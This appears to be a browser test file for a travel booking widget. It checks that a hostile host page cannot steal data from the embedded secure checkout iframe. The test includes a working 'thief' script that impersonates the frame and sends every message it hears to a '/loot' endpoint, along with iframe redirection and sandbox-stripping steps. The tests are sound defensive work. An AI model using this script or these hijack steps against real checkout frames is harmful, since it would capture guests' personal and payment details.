import { beforeAll, describe, expect, it } from 'vitest';
import { recorder } from '../src/attacks.ts';
import { sites } from '../src/real-sites.ts';
import { onRealSites } from '../src/stage.ts';
import { aQuote, awaitCheckout, bookInFrame, bookingPage, checkoutAt, secureFrame } from './frame-steps.ts';

const on = onRealSites();
beforeAll(() => {
  // Stands in for the secure frame, says hello with its nonce, and sends home all that it hears.
  on.rig.serve(
    `${sites.stranger}/thief`,
    `<script>
      addEventListener('message', ({ data, ports }) => {
        const tell = (said) => navigator.sendBeacon('/loot', JSON.stringify(said) ?? 'nothing');
        tell(data);
        for (const port of ports) port.onmessage = ({ data: more }) => tell(more);
      });
      const nonce = location.hash.slice(1);
      if (parent !== window) for (let i = 0; i < 20; i++) parent.postMessage({ travel: 'travel-frame-2', type: 'hello', nonce }, '*');
    </script>`,
  );
});

const guest = { first: 'Amal', last: 'Sørensen', email: 'hands@example.org', phone: '+45 20 30 40 50' };

/** The page's own hands on our iframe. */
function onFrame(work: (iframe: HTMLIFrameElement, address: string) => void): Promise<void> {
  return on.page.evaluate(
    ({ code, address }) => {
      const iframe = document.querySelector('travel-hotels')!.shadowRoot!.querySelector('iframe')!;

      (new Function(`return ${code}`)() as typeof work)(iframe, address);
    },
    { code: work.toString(), address: `${sites.stranger}/thief` },
  );
}

async function openCheckout(path: string): Promise<string> {
  const { quoteId } = await aQuote(on.rig);
  on.rig.serve(
    `${sites.partner}/${path}`,
    bookingPage({ before: recorder, after: '<div id="elsewhere"></div>' }),
  );
  await on.page.goto(checkoutAt(`${sites.partner}/${path}`, quoteId));
  const frame = await awaitCheckout(on.page);
  await frame.locator('[autocomplete~="given-name"]').first().fill('Kept');
  return frame.url();
}

/** The checkout stands again, in a document with another nonce, and knows what was typed. */
async function standsAnew(before: string): Promise<void> {
  await expect
    .poll(
      () => on.page.frames().some((one) => one.url().includes('/frame/checkout') && one.url() !== before),
      {
        timeout: 20_000,
      },
    )
    .toBe(true);
  await awaitCheckout(on.page);
  await expect
    .poll(() => secureFrame(on.page).locator('[autocomplete~="given-name"]').first().inputValue())
    .toBe('Kept');
}

describe('a page that lays hands on the secure frame', () => {
  it('gets nothing by leading it elsewhere: by its address, its window, its name; the checkout starts over, and books', async () => {
    const first = await openCheckout('leads');
    await onFrame((iframe, address) => void (iframe.src = address + new URL(iframe.src).hash));
    await standsAnew(first);
    const second = (await awaitCheckout(on.page)).url();
    await onFrame((iframe, address) =>
      iframe.contentWindow!.location.replace(address + new URL(iframe.src).hash),
    );
    await standsAnew(second);
    const third = (await awaitCheckout(on.page)).url();
    await onFrame((iframe, address) => {
      iframe.name = 'mine';
      window.open(address + new URL(iframe.src).hash, 'mine');
    });
    // A name counts from the next document on; either way nothing is lost.
    await on.page.evaluate(() => new Promise((done) => setTimeout(done)));
    await awaitCheckout(on.page);
    expect(third).not.toBe(second);
    await bookInFrame(on.page, guest);
    expect(on.rig.received.filter(({ url }) => url.includes('/loot'))).toEqual([]);
  });

  it('gets nothing by copying it, moving it, or taking its sandbox away', async () => {
    const first = await openCheckout('copies');
    await onFrame((iframe) => {
      for (let i = 0; i < 3; i++) document.getElementById('elsewhere')!.append(iframe.cloneNode());
      iframe.removeAttribute('sandbox');
      iframe.setAttribute('allow', '*');
      try {
        document.domain = 'stay-blog.test';
      } catch {
        // Browsers forbid it more and more.
      }
    });
    // Copies load and say hello with the true nonce; nobody answers them.
    await expect.poll(() => on.page.frames().filter((one) => one.url() === first).length).toBe(4);
    expect((await awaitCheckout(on.page)).url()).toBe(first);
    const said = () =>
      on.page.evaluate(() => (window as unknown as { heard: { ports: unknown[] } }).heard.ports.length);
    expect(await said()).toBe(1);
    await onFrame(
      (iframe) =>
        void document.querySelector('travel-hotels')!.shadowRoot!.querySelector('.frame-box')!.append(iframe),
    );
    await standsAnew(first);
    await bookInFrame(on.page, guest);
  });

  it('breaks no more than the frame by removing it: the way back is there, and no error', async () => {
    await openCheckout('removes');
    await onFrame((iframe) => iframe.remove());
    await on.page.locator('travel-hotels').getByRole('button', { name: /^Back/ }).click();
    await on.page.locator('travel-hotels').getByRole('combobox', { name: 'Destination' }).waitFor();
    await on.page.evaluate(() => document.querySelector('travel-hotels')!.remove());
    expect(on.problems).toEqual([]);
  });

  it('finds no quote of another agency in it', async () => {
    const { quoteId } = await aQuote(on.rig, {
      site: 'https://harbour.localhost',
      key: 'pk_demo_harbour',
      origin: 'http://localhost:4100',
    });
    on.rig.serve(`${sites.partner}/foreign`, bookingPage());
    await on.page.goto(checkoutAt(`${sites.partner}/foreign`, quoteId));
    const frame = secureFrame(on.page);
    await frame.getByRole('heading', { level: 1, name: 'There is nothing to book here' }).waitFor();
    expect(await frame.locator('[autocomplete~="given-name"]').count()).toBe(0);
    expect(await frame.getByRole('button', { name: /^Pay / }).count()).toBe(0);
  });
});
